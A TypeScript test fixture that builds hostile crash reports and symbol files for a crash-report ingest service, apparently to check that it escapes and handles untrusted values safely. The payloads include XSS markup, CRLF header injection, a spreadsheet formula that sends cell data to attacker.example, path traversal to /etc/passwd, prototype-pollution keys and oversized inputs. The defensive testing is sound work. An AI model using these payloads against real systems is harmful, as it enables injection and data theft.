import { copiedAnnotations } from '#antenna/processed-crash';
import { aMinidump, aReport, type CrashReport, crashedModule } from '#antenna/testing';
import { signatureAnnotations } from '#antenna/signature';

/** An element that a page has only if a value was not escaped. */
export const injectedElement = 'x-injected';

const markup = `"'><${injectedElement}></${injectedElement}><img src=x onerror=alert(1)><script>alert(1)</script><!--`;
/** Reorders what follows, ends strings, moves the cursor, breaks lines, and takes four bytes. */
const controls =
  '\u{202e}gnp.exe\0\u{1b}[31m\u{7}\r\nSet-Cookie: a=b\r\n\u{2028}\u{85}\u{feff}\u{1f4a5}';
/** A spreadsheet would run it. */
const formula = '=HYPERLINK("http://attacker.example/?"&A1)';
const traversal = '../../../../../../etc/passwd';
const javaTrace = (name: string): string =>
  `java.lang.${name}: ${markup}\n\tat ${markup}.b(${markup}.java:1)\n\tat org.mozilla.C.d(C.java:2)`;

/** All that is copied, decides the signature, or stays in the raw crash; and names that a client invents. */
const names: readonly string[] = [
  ...new Set([...copiedAnnotations, ...signatureAnnotations]),
  'URL',
  'Comments',
  'StackTraces',
  'TelemetryEnvironment',
  'Add-ons',
  '__proto__',
  'constructor',
  `x${markup}`,
  `y${controls}`,
  traversal,
];

/** By what is hostile about them. Each is accepted by ingest without rules. */
export const hostileReports: Readonly<Record<string, CrashReport>> = {
  'markup in each annotation': annotated(() => markup).withDump(
    'upload_file_minidump',
    aMinidump(),
    { filename: `${markup}.dmp` },
  ),
  'control characters in each annotation': annotated(() => controls).withDump(
    'upload_file_minidump',
    aMinidump(),
    { filename: controls },
  ),
  'formulas in each annotation': annotated(() => formula).withDump(
    'upload_file_minidump',
    aMinidump(),
    { filename: formula },
  ),
  'paths in each annotation': annotated(() => traversal).withDump(
    'upload_file_minidump',
    aMinidump(),
    { filename: traversal },
  ),
  'long annotations': annotated((name) => `${name}${markup}`.padEnd(80_000, 'long ')).withDump(
    'upload_file_minidump',
    aMinidump(),
  ),
  'one of nearly two megabytes without a space': aReport().withAnnotations({
    MozCrashReason: 'x'.repeat(2_000_000),
    Comments: '\u{1f4a5}'.repeat(400_000),
  }),
  'markup in a Java stack': aReport().withAnnotation(
    'JavaStackTrace',
    javaTrace(`Error${markup.replaceAll(/\s/g, '')}`),
  ),
  'JSON of other types': aReport().withExtra({
    ProductName: { [markup]: [markup] },
    Version: [1, null, markup],
    ReleaseChannel: Number.MAX_VALUE,
    BuildID: -0,
    ProcessType: [],
    UptimeTS: 'NaN',
    CrashTime: 1e30,
    StartupTime: -1e30,
    ShutdownProgress: JSON.stringify({ progress: markup }),
    AsyncShutdownTimeout: JSON.stringify({ phase: markup, conditions: [{ name: markup }] }),
  }),
  'markup in the minidump': aReport().withDump(
    'upload_file_minidump',
    aMinidump({ modulePath: `/opt/${markup}`, debugFile: markup, osVersion: `6 ${markup}` }),
  ),
  'control characters in the minidump': aReport().withDump(
    'upload_file_minidump',
    aMinidump({ modulePath: `/opt/${controls}\u{d800}`, debugFile: controls, osVersion: controls }),
  ),
  'names as long as a minidump allows': aReport().withDump(
    'upload_file_minidump',
    aMinidump({
      modulePath: `/opt/${markup}${'m'.repeat(30_000)}`,
      debugFile: 'd'.repeat(30_000),
      osVersion: 'v'.repeat(30_000),
    }),
  ),
  'other dumps': aReport()
    .withDump('upload_file_minidump', Buffer.from(`MDMP${markup}`))
    .withDump(`upload_file_minidump_${markup}`, aMinidump())
    .withDump(`../${traversal}`, Buffer.from(markup), {
      filename: `a/../${markup}\r\nX: y`,
      contentType: 'text/html',
    }),
};

/** Of the module of the other minidumps: function and file names come from whoever builds the program. */
export const hostileSymbols = `MODULE Linux x86_64 ${crashedModule.debugId} game
FILE 1 src/${markup}.cpp
FUNC 1000 1000 0 ${markup}::load(${formula})
1000 1000 42 1
FUNC 2000 1000 0 ${controls.replaceAll(/[\r\n]/g, '')}
2000 1000 7 1
`;

function annotated(value: (name: string) => string): CrashReport {
  return aReport().withAnnotations(Object.fromEntries(names.map((name) => [name, value(name)])));
}
